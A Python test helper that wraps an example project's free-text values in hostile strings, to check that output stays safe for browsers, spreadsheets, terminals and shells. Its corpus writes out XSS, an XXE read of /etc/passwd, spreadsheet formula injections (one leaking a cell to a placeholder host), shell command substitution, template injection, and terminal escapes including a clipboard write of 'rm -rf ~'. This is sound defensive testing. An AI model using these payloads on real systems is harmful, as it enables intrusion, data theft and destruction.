"""One list of hostile texts, and books in which they are in every free text and name: made from the schemas.

The texts are spread over the values of the example book, so that one book holds all of them; of several books with
another `shift` each, every value has held every text. A value that is written twice gets the same text twice, so that
names still name what they named.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from pathlib import Path
from typing import Any
from zlib import crc32

import rtoml

from tests.books import EXAMPLE, put
from tests.pages.hostile import TEXTS
from tests.schema.filled import filled

CORPUS: Mapping[str, str] = {
    **{name: text for name, text in TEXTS.items() if name != "long"},
    "another script": "<svg/onload=alert(1)><a href='javascript:alert(1)'>x</a>",
    "end of a section": "]]></cbc:Note><cac:X/><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "Markdown": "[a](javascript:alert(1)) ![b](http://h.example/i) <http://h.example> `c` **d** ~~e~~ $f$",
    "Markdown blocks": "# h\n\n- i\n\n```\nj\n| k | l |\n|---|---|\n> m\n    n",
    "formula": '=HYPERLINK("http://h.example/"&A1,"x")',
    "formula, plus": "+1+cmd|' /C calc'!A0",
    "formula, minus": "-2+3+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula, tab": "\t=1+1",
    "formula, return": "\r=1+1",
    "line ends": "a\r\nb\rc\nd\x85e\u2028f\u2029g",
    "terminal": "\x1b[2J\x1b[31m\x1b[H\x9b31m\x1bc",
    "terminal, title and bell": "\x1b]0;x\x07\x9d0;x\x9c\x08\x7f",
    "terminal, link": "\x1b]8;;http://h.example/\x1b\\y\x1b]8;;\x1b\\",
    "terminal, clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "direction": "\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c",
    "invisible": "a\u200bb\ufeffc\u00add\u2060e",
    "nothing": "a\x00b",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:http://h.example/,;:\\n\\",
    "workflow command": "x\n::error file=a,line=1::b%0A%25%\n::set-output name=x::y",
    "address": "file:///etc/passwd?a#b %2e%2e/..\\c",
    "shell": "$(touch x)`touch x`;touch x|touch x&'\"\n",
    "template, again": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "TOML": "\"\"\"\n[[reading]]\nat = 2026-10-19T10:00:00\n'''\\",
    "format": "%s %(x)s {0} {x!r} %n",
}
"""Each is hostile to some reader of an answer: a browser, a renderer, a spreadsheet, a terminal, a shell."""

LONG = "<b>=x\x1b[2J" * 10_000
"""About 100 kB."""

_LONG_KEYS = frozenset(("title", "complaint", "where"))
_FREE = re.compile(r"[a-z_]+ \d+")
_COUNTED = re.compile(r"[a-z_\"-]+ \d+")
_KEPT = frozenset(("logs", "letters", "by"))
"""Tables that say how logs are read, letters of clones, and names that are asked for from git."""

_KINDS = {
    "jobs": "job",
    "boards": "board",
    "bench.toml": "bench",
    "meters.toml": "meters",
    "stock.toml": "stock",
}
_JOBS = ("14", "26", "35", "41", "42", "43", "44", "47", "49", "55", "58", "61", "62")
"""Jobs of the example that have a bit of everything; more would only take time."""
_CLIENTS = ("003", "006", "007", "013", "017", "022", "031", "038", "042", "046", "049")

Change = Callable[[str], str]
_Path = tuple[str, ...]


def spread(shift: int = 0) -> Change:
    """Return what puts one of the texts before and behind a value; which, depends on the value."""
    texts = tuple(CORPUS.values())

    def changed(value: str) -> str:
        text = texts[(crc32(value.encode()) + shift) % len(texts)]
        return f"{text}{value}{text}"

    return changed


def hostile_book(root: Path, shift: int = 0) -> Path:
    """Make a book of some jobs of the example, hostile in every free text and name; return its folder."""
    return _book(root, lambda _key: spread(shift))


def plain_book(root: Path) -> Path:
    """Make the same book without hostile texts."""
    return _book(root, lambda _key: str)


def long_book(root: Path) -> Path:
    """Make a book whose texts, though not its names, are about 100 kB long."""
    return _book(root, lambda key: (lambda value: LONG + value) if key in _LONG_KEYS else str)


def _book(root: Path, change_of: Callable[[str], Change]) -> Path:
    for path in _wanted():
        source = EXAMPLE / path
        kind = _KINDS.get(path.split("/")[0])
        if kind and path.endswith(".toml"):
            whole = _changed(rtoml.loads(source.read_text("utf-8")), _free(kind), (), change_of)
            put(root / path, rtoml.dumps(whole))
        else:
            put(root / path, source.read_bytes())
    change = change_of("name")
    address = {"address": [change("A road"), change("A town")], "country": "DE"}
    clients = {f"c-{one}": {"name": change(f"Client {one}"), **address} for one in _CLIENTS}
    put(root / "private/clients.toml", rtoml.dumps({"format": 1, "client": clients}))
    return root


def _wanted() -> Iterator[str]:
    for path in sorted(EXAMPLE.rglob("*")):
        inside = path.relative_to(EXAMPLE).as_posix()
        is_job = inside.startswith("jobs/")
        if path.is_file() and (
            not is_job or inside.split("/")[2][6:].removesuffix(".toml").lstrip("0") in _JOBS
        ):
            yield inside


def _changed(value: Any, free: frozenset[_Path], path: _Path, change_of: Callable[[str], Change]) -> Any:
    """Change every free value below a path, and the keys of tables that are names."""
    if isinstance(value, dict):
        is_named = any(one[: len(path) + 1] == (*path, "*") for one in free)
        return {
            (change_of("name")(key) if is_named and path == ("item",) else key): _changed(
                inner, free, (*path, "*" if is_named else key), change_of
            )
            for key, inner in value.items()
        }
    if isinstance(value, list):
        return [_changed(one, free, path, change_of) for one in value]
    if isinstance(value, str) and path in free and not _KEPT & {*path}:
        return change_of(path[-1])(value)
    return value


@cache
def _free(kind: str) -> frozenset[_Path]:
    """Return the paths of the values of a kind of file that may be any text."""
    return frozenset(_free_in(filled(kind), ()))


def _free_in(value: Any, path: _Path) -> Iterator[_Path]:
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from _free_in(inner, (*path, "*" if _COUNTED.fullmatch(key) else key))
    elif isinstance(value, list):
        for one in value:
            yield from _free_in(one, path)
    elif isinstance(value, str) and _FREE.fullmatch(value):
        yield path
